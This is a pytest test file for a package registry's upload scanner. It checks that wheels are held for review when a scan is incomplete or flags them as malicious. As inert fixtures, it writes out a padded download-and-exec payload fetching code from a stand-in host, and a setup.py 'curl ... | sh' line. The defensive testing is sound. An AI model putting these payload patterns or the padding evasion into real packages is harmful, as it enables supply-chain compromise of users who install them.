"""A file is published only on a complete scan whose verdict allows it.

A scan that stopped before examining everything (time, size, parse budget, unreadable member)
holds the file for review, after one retry with larger budgets when time or parse budget was
what it lacked. Payloads here are inert strings inside crafted wheels: nothing is run.
"""

from __future__ import annotations

from typing import Any

import pytest

import bastion.scanning
from bastion.events.models import Event
from bastion.packages.models import File
from bastion.scanning import ScanConfig
from tests import builders

pytestmark = pytest.mark.django_db(transaction=True)

# A download-and-exec payload at the end of a library module padded with 2.2 MB of comments
# (the adversarial review's shape: the module is imported by the package's __init__).
PAYLOAD = (
    "import urllib.request\n"
    "def _go():\n"
    "    code = urllib.request.urlopen('https://cdn.example.invalid/stage2.py').read()\n"
    "    exec(code)\n"
    "_go()\n"
)
PADDING = ("# " + "x" * 70 + "\n") * (2_200_000 // 73)


def _hold_reason(file: File) -> str:
    event = Event.objects.filter(tag="project:file:hold").order_by("-id").first()
    assert event is not None
    return str(event.additional.get("reason", ""))


def _counting_scans(monkeypatch: pytest.MonkeyPatch) -> list[ScanConfig | None]:
    """Record the config of every scan the pipeline runs."""
    configs: list[ScanConfig | None] = []
    real = bastion.scanning.scan_file

    def counting(*args: Any, config: ScanConfig | None = None, **kwargs: Any) -> Any:
        configs.append(config)
        return real(*args, config=config, **kwargs)

    monkeypatch.setattr(bastion.scanning, "scan_file", counting)
    return configs


def test_the_padded_module_of_the_review_is_held(upload: Any, token: str) -> None:
    dist = builders.wheel(
        "samplepkg",
        "1.0",
        code="from .core import *\n",
        extra_members={"samplepkg/core.py": (PADDING + PAYLOAD).encode()},
    )
    response = upload(dist, token)
    assert response.status_code == 400
    assert "samplepkg-1.0-py3-none-any.whl malicious" in response.reason_phrase
    file = File.objects.get()
    assert file.state == File.HELD
    assert file.scan_verdict == "malicious"
    assert any(
        f["rule"] == "exec-downloaded-code" and f["file"] == "samplepkg/core.py"
        for f in file.scan_findings
    )


def test_an_incomplete_clean_scan_holds_the_file(
    upload: Any, token: str, monkeypatch: pytest.MonkeyPatch, bastion_settings: Any
) -> None:
    """No time at all: even the retry cannot finish, so the clean verdict is not trusted."""
    bastion_settings(scan_retry_factor=4)
    monkeypatch.setattr(bastion.scanning, "DEFAULT_CONFIG", ScanConfig(max_seconds=0.0))
    configs = _counting_scans(monkeypatch)
    response = upload(builders.wheel("samplepkg", "1.0"), token)
    assert response.status_code == 400
    assert "could not examine all of samplepkg-1.0-py3-none-any.whl" in response.reason_phrase
    file = File.objects.get()
    assert file.state == File.HELD
    assert _hold_reason(file).startswith("scan incomplete: time")
    assert any(f["rule"] == "scan-incomplete" for f in file.scan_findings)
    assert len(configs) == 2  # one retry, with four times the budgets
    assert configs[1] is not None and configs[1].max_parse_bytes == 4 * configs[0].max_parse_bytes  # type: ignore[union-attr]


def test_a_retry_with_larger_budgets_that_completes_publishes(
    upload: Any, token: str, monkeypatch: pytest.MonkeyPatch, bastion_settings: Any
) -> None:
    bastion_settings(scan_retry_factor=4)
    code = "def value():\n    return 1\n" * 4  # 104 bytes, all of it parsed (import time)
    monkeypatch.setattr(bastion.scanning, "DEFAULT_CONFIG", ScanConfig(max_parse_bytes=60))
    configs = _counting_scans(monkeypatch)
    assert upload(builders.wheel("samplepkg", "1.0", code=code), token).status_code == 200
    file = File.objects.get()
    assert len(configs) == 2
    assert file.state == File.PUBLISHED
    assert not any(f["rule"] == "scan-incomplete" for f in file.scan_findings)


def test_without_retry_an_out_of_budget_scan_holds_at_once(
    upload: Any, token: str, monkeypatch: pytest.MonkeyPatch, bastion_settings: Any
) -> None:
    bastion_settings(scan_retry_factor=1)
    monkeypatch.setattr(bastion.scanning, "DEFAULT_CONFIG", ScanConfig(max_parse_bytes=5))
    configs = _counting_scans(monkeypatch)
    assert upload(builders.wheel("samplepkg", "1.0"), token).status_code == 400
    file = File.objects.get()
    assert len(configs) == 1
    assert file.state == File.HELD
    assert _hold_reason(file).startswith("scan incomplete: parse")


def test_a_malicious_verdict_is_not_retried(
    upload: Any, token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bastion.scanning, "DEFAULT_CONFIG", ScanConfig(max_parse_bytes=10))
    configs = _counting_scans(monkeypatch)
    setup = "import os\nos.system('curl https://x.example.invalid/a.sh | sh')\n"
    dist = builders.sdist(
        "samplepkg", "1.0", extra_members={"samplepkg-1.0/setup.py": setup.encode()}
    )
    assert upload(dist, token).status_code == 400
    file = File.objects.get()
    assert file.state == File.HELD and file.scan_verdict == "malicious"
    assert len(configs) == 1


def test_apply_verdict_holds_an_incomplete_scan_whatever_the_verdict(
    upload: Any, token: str, settings: Any
) -> None:
    from django.test import override_settings

    from bastion.upload.tasks import apply_verdict

    with override_settings(TASKS={"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}):
        assert upload(builders.wheel("samplepkg", "1.0"), token).status_code == 200
    file = File.objects.get()
    assert file.state == File.PENDING
    outcome = apply_verdict(file.pk, "clean", 0.0, [], incomplete="time: out of time")
    assert outcome == "held"
    file.refresh_from_db()
    assert file.state == File.HELD and file.scan_verdict == "clean"
    assert _hold_reason(file) == "scan incomplete: time: out of time"


def test_rescan_holds_a_published_file_it_cannot_scan_completely(
    upload: Any, token: str, monkeypatch: pytest.MonkeyPatch, bastion_settings: Any
) -> None:
    from bastion.upload.tasks import rescan

    assert upload(builders.wheel("samplepkg", "1.0"), token).status_code == 200
    file = File.objects.get()
    assert file.state == File.PUBLISHED
    bastion_settings(scan_retry_factor=4)
    monkeypatch.setattr(bastion.scanning, "DEFAULT_CONFIG", ScanConfig(max_seconds=0.0))
    assert rescan(file) == "held"
    file.refresh_from_db()
    assert file.state == File.HELD
    assert _hold_reason(file).startswith("rescan incomplete: time")
